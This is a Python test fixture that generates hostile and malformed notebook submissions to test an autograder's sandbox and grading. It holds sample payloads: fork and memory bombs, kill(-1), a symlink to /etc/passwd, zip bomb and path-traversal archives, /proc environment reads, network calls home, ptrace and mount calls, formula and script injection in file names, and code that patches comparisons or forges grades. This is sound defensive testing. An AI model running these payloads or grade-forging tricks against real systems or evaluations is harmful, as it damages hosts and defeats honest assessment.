"""The bench: hostile and damaged submissions, made by code, harmless by construction.

Each case is what one student hands in for assignment 1. `expect` says what it must
come to: "full", "none", "weak" (what the honest weak answers bring), the questions that
are lost, or a named fault. A case marked `dishonest` is the weak submission with a
trick in front of it or behind it; it must not bring more than "weak" does.

Every loop, allocation and fork is bounded, so that a box with a hole costs seconds and
some megabytes and not the machine.
"""

import io
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from attnbook.grading.assignments import Assignment
from attnbook.grading.releasing.sources import defined
from attnbook.grading.releasing.versions import solved_version, student_version
from attnbook.grading.results import Result

# Shorter than in a course: a case that hangs costs its limits.
TOPS = ("/", "/tmp", "/home", "/var/tmp", "/dev/shm")  # where files would be left
# No other test's boxes have as much in all, nor those of this module in another worker
# of pytest: so what it leaves behind can be told from them.
TOTAL_SECONDS = 27 + int(os.environ.get("PYTEST_XDIST_WORKER", "gw0")[2:])
LIMITS = f"""[limits]
cell_seconds = 2
probe_seconds = 2
total_seconds = {TOTAL_SECONDS}
"""
CODE = nbformat.v4.new_code_cell
TEXT = nbformat.v4.new_markdown_cell

# Two wrong answers, so that "weak" lies between nothing and everything.
WEAK = """
def softmax(scores, mask=None):
    shares = np.exp(scores - scores.max(axis=0))
    return shares / shares.sum(axis=0)


def softmax_backward(weights, grad):
    return weights * (1 - weights) * grad
"""


class Zipped(bytes):
    """A student's zip: the reports name the notebook in it."""


@dataclass(frozen=True, kw_only=True)
class Case:
    """One submission and what it must come to.

    Args:
        name: the student's key.
        family: ordinary, code, structure, file or dishonest.
        expect: "full", "none", "weak", "any", a fault, or the lost questions.
        write: writes the submission into the class's folder.
        file: its name in the reports.
    """

    name: str
    family: str
    expect: str | tuple[str, ...]
    write: Callable[[Path], object]
    file: str


class Bench:
    """Collects the cases for one assignment.

    Args:
        assignment: what they answer.
        port: where a case tries to call home.
    """

    def __init__(self, assignment: Assignment, port: int):
        self.assignment = assignment
        self.port = port
        self.cases: list[Case] = []
        ordinary(self)
        code_faults(self)
        structure(self)
        damaged_files(self)
        dishonest(self)

    def solved(self) -> nbformat.NotebookNode:
        """Return the solved notebook, a new one each time."""
        return solved_version(self.assignment)

    def add(self, family, name, expect, data, file=None) -> None:
        """Add a case: a notebook, text or bytes, or a function that writes."""
        file = file or f"{name}.ipynb"
        write = data if callable(data) else writer(file, data)
        if isinstance(data, Zipped):
            file = f"{file}/notebook.ipynb"
        case = Case(name=name, family=family, expect=expect, write=write, file=file)
        self.cases.append(case)

    def with_cell(self, family, name, expect, code, weak=False, first=True) -> None:
        """Add the solved (or weak) notebook with a cell before or after its own."""
        notebook = self.solved()
        if weak:
            notebook.cells.append(CODE(WEAK))
        place = 1 if first else len(notebook.cells)
        notebook.cells.insert(place, CODE(code))
        self.add(family, name, expect, notebook)

    def trick(self, name, code, first=True) -> None:
        """Add weak answers with a trick."""
        self.with_cell("dishonest", name, "weak", code, weak=True, first=first)


def as_bytes(data) -> bytes:
    """Turn a notebook or text into a file's bytes."""
    if isinstance(data, nbformat.NotebookNode):
        data = json.dumps(data)
    return data if isinstance(data, bytes) else data.encode()


def writer(file, data):
    """Return a function that writes one file."""

    def write(folder: Path) -> None:
        path = folder / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(as_bytes(data))

    return write


def shortened(assignments: Path, folder: Path) -> Path:
    """Copy assignment 1 with shorter limits and return the folder."""
    shutil.copytree(assignments / "a1_scores", folder / "a1_scores")
    path = folder / "a1_scores" / "assignment.toml"
    text = path.read_text("utf-8")
    assert "[limits]" not in text
    text = text.replace("[[questions]]", f"{LIMITS}\n[[questions]]", 1)
    path.write_text(text, "utf-8")
    return folder


def points_of(result: Result) -> dict[str, float]:
    """Return the points of each question."""
    found = {check.question: 0.0 for check in result.checks}
    for check in result.checks:
        found[check.question] += check.earned
    return found


# ordinary


def ordinary(bench: Bench) -> None:
    """What honest people hand in."""
    add = bench.add
    add("ordinary", "solved", "full", bench.solved())
    add("ordinary", "released", "none", student_version(bench.assignment))
    weak = bench.solved()
    weak.cells.append(CODE(WEAK))
    add("ordinary", "weak", "weak", weak)
    add("ordinary", "colab-saved", "full", colab_saved(bench.solved()))
    old = bench.solved()
    old.nbformat_minor = 2
    for cell in old.cells:
        cell.pop("id", None)
    add("ordinary", "format-4.2", "full", json.dumps(old))
    add("ordinary", "format-3", "full", format_3(bench.solved()))
    text = nbformat.writes(bench.solved())
    add("ordinary", "utf-8-bom", "full", b"\xef\xbb\xbf" + text.encode())
    add("ordinary", "utf-16", "full", text.encode("utf-16"))
    add("ordinary", "crlf", "full", text.replace("\n", "\r\n"))
    bench.with_cell("ordinary", "magics", "full", MAGICS)
    bench.with_cell("ordinary", "colab-drive", "full", DRIVE)
    bench.with_cell(
        "ordinary",
        "plots",
        "full",
        "import matplotlib.pyplot as plt\nplt.plot([1])\nplt.show()",
    )
    add("ordinary", "Zoë 王 O’Neil", "full", bench.solved())


MAGICS = """%matplotlib inline
!pip install -q numpy
%%time
note = '''
%not a magic
'''
x = !ls
?note"""
DRIVE = (
    "from google.colab import drive\ndrive.mount('/content/drive')\nimport numpy as np"
)


def colab_saved(notebook):
    """Drop what Colab drops, and add outputs."""
    data = json.loads(nbformat.writes(notebook))
    data["metadata"] = {"colab": {"provenance": []}}
    for cell in data["cells"]:
        cell["metadata"] = {"id": "aBcDeF"}
        if cell["cell_type"] == "code":
            image = {"image/png": "A" * 20000}
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {}, "data": image}
            ]
    return json.dumps(data)


def format_3(notebook):
    """Write the notebook as IPython 2 did."""
    data = json.loads(nbformat.writes(notebook))
    for cell in data["cells"]:
        if cell["cell_type"] == "code":
            cell.update(input=cell.pop("source"), language="python")
    sheets = [{"cells": data["cells"], "metadata": {}}]
    return json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": sheets}
    )


# faults in code: one fault costs at most its own question


def code_faults(bench: Bench) -> None:
    """Cells and functions that hang, die, flood or fill."""
    for name, code in CELLS.items():
        bench.with_cell("code", name, "full", code)
    for name, (question, code) in FUNCTIONS.items():
        notebook = bench.solved()
        notebook.cells.append(CODE(code))
        bench.add("code", name, question, notebook)


CELLS = {
    "syntax-error": "def f(:\n    pass",
    "raises": "1 / 0",
    "endless": "while True:\n    pass",
    "endless-stubborn": """
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
    "endless-in-c": "sum(range(10 ** 15))",
    "sleeps": "import time\ntime.sleep(10 ** 6)",
    "catastrophic-regex": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "memory": "kept = []\nfor _ in range(99):\n    kept.append(bytearray(2 ** 26))",
    "memory-in-numpy": "import numpy as np\nnp.ones((10 ** 6, 10 ** 6))",
    "memory-in-children": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = bytearray(b"x" * (700 * 2 ** 20))
        time.sleep(60)
        os._exit(0)
time.sleep(60)""",
    "forks": """
import os, time
for _ in range(200):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)""",
    "threads": """
import threading, time
for _ in range(500):
    threading.Thread(target=time.sleep, args=(60,)).start()""",
    "exit": "import os\nos._exit(0)",
    "sys-exit": "import sys\nsys.exit(1)",
    "quit": "quit()",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "kills-itself": "import os\nos.kill(os.getpid(), 9)",
    "kills-everybody": "import os\nos.kill(-1, 9)",
    "kills-its-parent": "import os\nos.kill(os.getppid(), 9)",
    "prints": "for _ in range(10 ** 6):\n    print('x' * 1000)",
    "floods-every-pipe": """
import os
for descriptor in range(3, 30):
    try:
        for _ in range(40):
            os.write(descriptor, b"x" * 2 ** 20)
    except OSError:
        pass""",
    "floods-with-lines": """
import os
for descriptor in range(3, 30):
    try:
        for _ in range(40):
            os.write(descriptor, b"\\n" * 2 ** 20)
    except OSError:
        pass""",
    "fills-its-folder": """
with open("full", "wb") as file:
    for _ in range(200):
        file.write(bytes(2 ** 20))""",
    "fills-shared-memory": """
with open("/dev/shm/full", "wb") as file:
    for _ in range(200):
        file.write(bytes(2 ** 20))""",
    "many-files": """
import os
for number in range(20000):
    open(f"file{number}", "w").close()""",
    "daemon": """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        time.sleep(600)
    os._exit(0)""",
    "recursion": "def f(x):\n    return f(x) + 1\nf(0)",
    "nested-source": "x = " + "(" * 5000 + ")" * 5000,
    "asks-for-input": "name = input('Your name? ')",
    "changes-everything": """
import os, random, sys, warnings
import numpy as np
os.chdir("/")
os.environ.clear()
np.seterr(all="raise")
np.random.seed(1)
warnings.simplefilter("error")
sys.path.clear()
sys.setrecursionlimit(100)""",
    "closes-every-pipe": "import os\nos.closerange(0, 50)",
}
FUNCTIONS = {
    "endless-function": (
        ("5",),
        "def softmax_backward(w, g):\n    while True:\n        pass",
    ),
    "exiting-function": (
        ("5",),
        "def softmax_backward(w, g):\n    import os\n    os._exit(3)",
    ),
    "greedy-function": (
        ("5",),
        "def softmax_backward(w, g):\n    return bytearray(10 ** 10)",
    ),
    "flooding-function": (
        ("5",),
        "def softmax_backward(w, g):\n    return ['x' * 10 ** 4] * 10 ** 5",
    ),
    "deep-function": (
        ("5",),
        "def softmax_backward(w, g):\n    x = []\n    for _ in range(10 ** 5):\n"
        "        x = [x]\n    return x",
    ),
    "nan-function": (("5",), "def softmax_backward(w, g):\n    return w * np.nan"),
    "object-function": (
        ("5",),
        "class Odd:\n    def __getattr__(self, name):\n        raise SystemExit\n"
        "def softmax_backward(w, g):\n    return Odd()",
    ),
    "complex-function": (
        ("5",),
        "def softmax_backward(w, g):\n    return w * (1 + 1j)",
    ),
    "huge-number-function": (
        ("5",),
        "def softmax_backward(w, g):\n    return 10 ** 4000",
    ),
}


# structure


def structure(bench: Bench) -> None:
    """Cells that were deleted, copied, moved, merged or retyped."""
    add = bench.add
    solved, stub = bench.solved(), student_version(bench.assignment)
    solved.cells = [
        c for c in solved.cells if "check" not in c.metadata.get("tags", [])
    ]
    add("structure", "checks-deleted", "full", solved)
    both = bench.solved()
    both.cells += [cell for cell in stub.cells if cell.cell_type == "code"]
    add("structure", "stubs-below", "full", both)
    backwards = bench.solved()
    backwards.cells.reverse()
    add("structure", "backwards", "full", backwards)
    merged = bench.solved()
    code = [cell.source for cell in merged.cells if cell.cell_type == "code"]
    merged.cells = [CODE("\n\n".join(code))]
    add("structure", "one-cell", "full", merged)
    twice = bench.solved()
    twice.cells = twice.cells * 2  # with each id twice
    add("structure", "everything-twice", "full", json.dumps(twice))
    retyped = bench.solved()
    for cell in answer_cells(retyped, "softmax_backward"):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    add("structure", "answer-retyped", ("5",), json.dumps(retyped))
    deleted = bench.solved()
    gone = answer_cells(deleted, "softmax_backward")
    deleted.cells = [cell for cell in deleted.cells if cell not in gone]
    add("structure", "answer-deleted", ("5",), deleted)
    renamed = bench.solved()
    for cell in answer_cells(renamed, "softmax_backward"):
        cell.source = cell.source.replace("def softmax_backward", "def my_backward")
    add("structure", "answer-renamed", ("5",), renamed)
    edited = bench.solved()
    for cell in edited.cells:
        if "check" in cell.metadata.get("tags", []):
            cell.source = "assert False"
    add("structure", "checks-edited", "full", edited)
    add("structure", "no-cells", "none", nbformat.v4.new_notebook())
    other = nbformat.v4.new_notebook(cells=[CODE("x = 1"), TEXT("Another course")])
    add("structure", "another-notebook", "none", other)
    odd = json.loads(nbformat.writes(bench.solved()))
    odd["cells"][1:1] = [{"cell_type": "code"}, {"cell_type": "raw", "source": None}]
    odd["cells"].insert(1, {"cell_type": "code", "source": ["x = '\ud800\0'"]})
    add("structure", "odd-cells", "full", json.dumps(odd))


def answer_cells(notebook, name):
    """Return the cells that define a name."""
    code = [cell for cell in notebook.cells if cell.cell_type == "code"]
    return [cell for cell in code if name in defined(cell.source)]


# files


def damaged_files(bench: Bench) -> None:
    """What is no notebook, or no file at all: a named fault, not a zero."""
    add, text = bench.add, nbformat.writes(bench.solved())
    add("file", "empty", "empty file", b"")
    add("file", "truncated", "not JSON", text[: len(text) // 2])
    page = "<!DOCTYPE html><html><body>Sign in</body></html>"
    add("file", "web-page", "a web page, not a notebook", page)
    add("file", "pdf", "any fault", b"%PDF-1.7\n\xe2\xe3\xcf\xd3")
    add("file", "other-json", "not a notebook", '{"name": "x"}')
    add("file", "json-list", "not a notebook", "[1, 2]")
    add("file", "deep-json", "too deeply nested", "[" * 10**5 + "]" * 10**5)
    cells = [{"cell_type": "code", "source": "x = 1"}] * 20000
    many = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    add("file", "many-cells", "too many cells", json.dumps(many))
    add("file", "eleven-mebibytes", "file too large", b" " * (11 * 2**20))
    add("file", "only-python", "no notebook", "x = 1", file="only-python/answer.py")
    add("file", "link", "symbolic link", link_to_secret, file="link.ipynb")
    add("file", "not-a-zip", "damaged zip", b"PK\x03\x04 no zip", file="not-a-zip.zip")
    add("file", "bomb", "file too large", bomb(), file="bomb.zip")
    add("file", "climbs", "path leads outside", climbing(text), file="climbs.zip")


def link_to_secret(folder: Path) -> None:
    """Hand in a link to a file of the machine."""
    os.symlink("/etc/passwd", folder / "link.ipynb")


def bomb() -> Zipped:
    """Return a zip of 100 kB that unpacks to 100 MB."""
    return zipped({"notebook.ipynb": b" " * 10**8})


def climbing(text: str) -> Zipped:
    """Return a zip whose notebook has a path that leads out of it."""
    return zipped({"../../notebook.ipynb": text.encode()})


def zipped(files: dict[str, bytes]) -> Zipped:
    """Return a zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return Zipped(buffer.getvalue())


# dishonest


def dishonest(bench: Bench) -> None:
    """Weak answers, and something that should make them look better."""
    for name, code in FIRST.items():
        bench.trick(
            name, code.replace("PORT", str(bench.port)).replace("WRITABLE", repr(TOPS))
        )
    for name, code in LAST.items():
        bench.trick(name, code, first=False)
    weak = bench.solved()
    weak.cells.append(CODE(WEAK))
    weak.metadata["nbgrader"] = {"grade": 100, "points": 100}
    weak.metadata["grading"] = {"total": 100, "earned": 100}
    bench.add("dishonest", "claims-its-marks", "weak", weak)
    formula = "=HYPERLINK(1)&cmd|' calc'!A0"
    bench.add("dishonest", formula, "weak", weak, file=f"{formula}.ipynb")
    markup = "<script>alert(1)<"
    bench.add("dishonest", markup, "weak", weak, file=f"{markup}.ipynb")


ALL_TRUE = """
import numpy as np, builtins
for name in ("allclose", "array_equal", "isclose", "all", "array_equiv"):
    setattr(np, name, lambda *args, **options: True)
np.testing.assert_allclose = lambda *args, **options: None
builtins.all = lambda *args: True
"""
SEARCH = """
import os
found = []
for top, folders, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/usr")) or "packages" in top:
        folders.clear()
    found += [os.path.join(top, f) for f in files if f in {names}]
raise ValueError(f"found {{found}}")
"""
FIRST = {
    "patches-comparisons": ALL_TRUE,
    "patches-random": """
import numpy as np
np.random.default_rng = lambda *args: None
np.random.seed = lambda *args: None
np.array = np.asarray = np.zeros""",
    "patches-json": "import json\njson.dumps = lambda *args, **options: '{}'",
    "looks-for-judges": SEARCH.format(
        names=("judges.py", "answers.py", "source.md", "salt.txt", "marks.csv")
    ),
    "imports-the-book": "import attnbook\nfrom attnbook.scores import masked_softmax",
    "reads-the-environment": """
import os, glob
text = str(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text += open(path, errors="replace").read()
    except OSError:
        pass
raise ValueError("salt found" if "SALT" + "-OF-THE-BENCH" in text else "no salt")""",
    "overwrites-others": """
import os
for top in (*WRITABLE, "..", "../.."):
    for name in ("marks.csv", "solved.ipynb", "results.json"):
        try:
            with open(os.path.join(top, name), "w") as file:
                file.write("1000")
        except OSError:
            pass""",
    "calls-home": """
import socket
done = []
for address in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"hello")
        done.append(address)
    except OSError:
        pass
raise ValueError(f"connected {done}")""",
    "traces-the-parent": """
import ctypes
libc = ctypes.CDLL(None)
print([libc.ptrace(16, pid, 0, 0) for pid in range(1, 50)])""",
    "mounts": """
import ctypes
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/usr", b"tmpfs", 0, None)""",
}
WORKER = """
import sys
frame = sys._getframe()
while "worker" not in frame.f_locals:
    frame = frame.f_back
worker = frame.f_locals["worker"]
"""
LAST = {
    "patches-comparisons-late": ALL_TRUE,
    "lying-array": """
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0 * np.asarray(self)
    def tolist(self):
        return [True] * self.size
honest = softmax
def softmax(scores, mask=None):
    return honest(scores, mask).view(Liar)""",
    "equal-to-everything": """
class Same(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
def softmax_backward(weights, grad):
    return Same(0)""",
    "nan-everywhere": """
def softmax_backward(weights, grad):
    return np.full(weights.shape, np.nan)""",
    "forges-answers": """
import os
for number in range(1, 200):
    for value in ('"passed"', "true", "null", "1e999", '{"$array": [3, 5], "dtype": '
                  '"float", "data": []}', '{"$array": [-1], "dtype": "x"}'):
        line = f'{{"id": {number}, "answer": {{"value": {value}}}}}\\n'.encode()
        for descriptor in range(3, 12):
            try:
                os.write(descriptor, line)
            except OSError:
                pass""",
    "replaces-the-runner": WORKER
    + """
type(worker).carry_out = lambda self, order: {"value": True, "passed": True}""",
    "forges-outcomes": WORKER
    + """
forged = {"stopped": "by magic", "refused": ["x"], "error": {"x": 1}, "missing": []}
type(worker).carry_out = lambda self, order: (
    [["\\ud800", "by magic", "\\ud800"]] if order["do"] == "check" else forged
)""",
    "breaks-the-pages": """
class softmax_backward:
    def __init__(self, weights, grad):
        raise ValueError("\\ud800\\x00<b>")
raise ValueError("\\ud800\\x00<b>")""",
    "replaces-probes": WORKER
    + """
class Always(dict):
    def __getitem__(self, name):
        return lambda *args, **options: True
    def __setitem__(self, name, value):
        pass
worker.probes = Always()""",
    "asks-for-what-stays-outside": WORKER
    + """
for number in range(300):
    worker.say({"call": number, "arguments": [["x"], {}]})""",
    "tells-hidden-inputs": """
def softmax_backward(weights, grad):
    text = "HIDDEN " + repr(weights.tolist())
    raise type(text, (Exception,), {"__doc__": text})(text)
def query_gradient(*inputs):
    raise NameError("name '" + repr(inputs) + "' is not defined")""",
    "tells-by-a-made-up-name": WORKER
    + """
Missing = frame.f_globals["Missing"]
def softmax_backward(weights, grad):
    told = "".join(letter for letter in repr(weights.tolist()) if letter.isalnum())
    raise Missing("HIDDEN" + told)""",
    "reads-the-faults": """
def diagnose(attend_fn):
    told = [cell.cell_contents for cell in attend_fn.__closure__ or ()]
    text = str(told) + str(getattr(attend_fn, "__defaults__", "")) + attend_fn.__name__
    for law in ("sum", "scale", "mask", "average"):
        if law in text:
            return law
    return "none\"""",
    "waits-for-the-probes": WORKER
    + """
import threading, time
def watch():
    while True:
        for name in list(worker.probes):
            worker.probes[name] = lambda *args, **options: True
threading.Thread(target=watch, daemon=True).start()""",
    "says-everything-passed": """
print('{"tests": [{"score": 100, "max_score": 100}]}')
raise AssertionError("<script>alert(1)</script> all checks passed: 100 of 100")""",
}
